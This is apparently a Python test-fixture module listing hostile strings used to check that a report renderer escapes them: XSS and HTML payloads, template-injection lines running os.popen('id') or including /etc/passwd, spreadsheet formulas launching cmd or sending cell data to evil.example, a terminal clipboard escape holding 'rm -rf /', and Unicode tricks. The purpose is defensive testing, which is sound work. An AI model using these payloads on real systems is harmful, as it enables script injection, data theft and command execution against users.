"""Text that tries to be more than text, of every kind that a reviewer, a page, a terminal or a file may meet.

What runs at all sets `fired`, opens a dialog, asks another host for something, or breaks the page's policy.
"""

from unicodedata import normalize

from tests.reports.payloads import PAYLOADS

_SCRIPTS = [
    "<script>window.fired=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<ScRiPt>window.fired=1</sCrIpT>",
    "<script\n>window.fired=1</script\n>",
    "<scr<script>ipt>window.fired=1</script>",
    "</script><script>window.fired=1</script>",
    "</textarea><script>window.fired=1</script>",
    "</template></noscript><script>window.fired=1</script>",
    "</ins></del></div></form><script>window.fired=1</script>",
    "<<script>window.fired=1//<</script>",
    '";window.fired=1;//',
    "'-(window.fired=1)-'",
    "\\u003cscript\\u003ewindow.fired=1\\u003c/script\\u003e",
    "+ADw-script+AD4-window.fired=1+ADw-/script+AD4-",
]

_HANDLERS = [
    "<img src=x onerror=window.fired=1>",
    "<img/src=x/onerror=window.fired=1>",
    '<img src="x" onerror="eval(atob(\'d2luZG93LmZpcmVkPTE=\'))">',
    "<body onload=window.fired=1>",
    "<input autofocus onfocus=window.fired=1>",
    "<details open ontoggle=window.fired=1>",
    "<video><source onerror=window.fired=1></video>",
    "<audio src=x onerror=window.fired=1>",
    "<marquee onstart=window.fired=1>",
    "<select autofocus onfocus=window.fired=1>",
    "<style onload=window.fired=1></style>",
    "<div style=animation-name:x onanimationstart=window.fired=1>",
    '" autofocus onfocus="window.fired=1',
    "' autofocus onfocus='window.fired=1",
    "` onmouseover=window.fired=1 `",
    '"><img src=x onerror=window.fired=1>',
    "'><img src=x onerror=window.fired=1>",
    " onerror=window.fired=1 src=x ",
]

_SVG = [
    "<svg/onload=window.fired=1>",
    "<svg><animate onbegin=window.fired=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.fired=1><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.fired=1>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.fired=1</script>'></foreignObject></svg>",
    "<svg><image href=https://evil.example/x.svg></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.fired=1>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.fired=1>",
]

_ADDRESSES = [
    "<a href=javascript:window.fired=1>x</a>",
    "<a href='java&#10;script:window.fired=1'>x</a>",
    "<iframe src=javascript:parent.fired=1></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe src='data:text/html,<script>parent.fired=1</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=javascript:window.fired=1><button autofocus>x</button></form>",
    "<button formaction=https://evil.example/>x</button>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<table background=https://evil.example/x.png><td>x",
    "<video poster=https://evil.example/x.png></video>",
    "<meta http-equiv=refresh content='0;url=javascript:window.fired=1'>",
    '![x](https://evil.example/x.png "x") <!-- ![y](https://evil.example/y.png) -->',
    "[click](javascript:window.fired=1) [x]: data:text/html,<script>window.fired=1</script>",
]

_STYLES = [
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<p style='width:expression(window.fired=1)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>cover</p>",
    "</style><style>#decision{display:none}</style>",
]

_TEMPLATES = [
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{%- set x = cycler.__init__.__globals__.os.popen('id').read() -%}{{ x }}",
    "{% include '/etc/passwd' %}{% import 'x' as y %}",
    "{{ '<b>' | safe }}{% autoescape false %}<b>{% endautoescape %}",
    "${{7*7}} #{7*7} @(7*7) [[7*7]] <%- 7*7 %>",
    "{after} {labels} {{after}} %(after)s $after",
    "__umpirical__ {0.__class__.__init__.__globals__}",
]

_ENTITIES = [
    "&lt;script&gt;window.fired=1&lt;/script&gt;",
    "&#x3c;img src=x onerror=window.fired=1&#x3e;",
    "&amp;lt;b&amp;gt; &nbsp; &copy &notit; &#0; &#xD800;",
    "%3Cscript%3Ewindow.fired=1%3C/script%3E",
    "\uff1cscript\uff1ewindow.fired=1\uff1c/script\uff1e",
]

_HIDDEN = [
    "\u202egnp.exe\u202d\u202c\u2067\u2068\u2069",
    "admin\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "\U000e0001\U000e0061\U000e007f tagged",
    "e\u0301\u0301\u0301\u0301\u0301 \u034f\u115f\u3164\uffa0",
    "\ue000\U000f0000 private \ufdd0\ufffe\U0010ffff",
    "\ud83d lone high \udca9 lone low",
    "⟦U+202E⟧ looks like ours ⟦U+0041⟧",
    "nul\x00in the middle\x00",
    "\x85next line\u2028separator\u2029paragraph\x0b\x0c",
]

_TERMINAL = [
    "\x1b[31m\x1b[2J\x1b[H red and cleared",
    "\x1b]0;title\x07\x1b]2;title\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b]8;;file:///etc/passwd\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "\x1b[6n\x1b[c\x1b[5i\x1bP+q544e\x1b\\",
    "over\rwritten\x08\x08\x08\x7f",
    "[bold red]rich[/] [/judge] [link=https://evil.example]x[/link]",
]

_TABLES = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1","',
    "a,b;c\td\"e'f",
]

_ENDLESS = [
    "W" * 3_000,
    "\u0645" * 1_000,
    "<b>" * 300,
    "a\u0300" * 500,
    "[" * 500 + "]" * 500,
    '[{"role": "<img src=x onerror=window.fired=1>", "content": "</textarea><script>window.fired=1</script>"}]',
    "null",
    "__proto__",
]

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *PAYLOADS, *_SCRIPTS, *_HANDLERS, *_SVG, *_ADDRESSES, *_STYLES, *_TEMPLATES, *_ENTITIES, *_HIDDEN,
            *_TERMINAL, *_TABLES, *_ENDLESS,
        ]
    )
)  # fmt: skip

_NAMES = [each for each in HOSTILE if len(each) <= 64 and each.isprintable() and each == each.strip()]

NAMES: tuple[str, ...] = tuple({normalize("NFKC", each).casefold(): each for each in reversed(_NAMES)}.values())
"""Those that a person can be called, no two of them alike."""
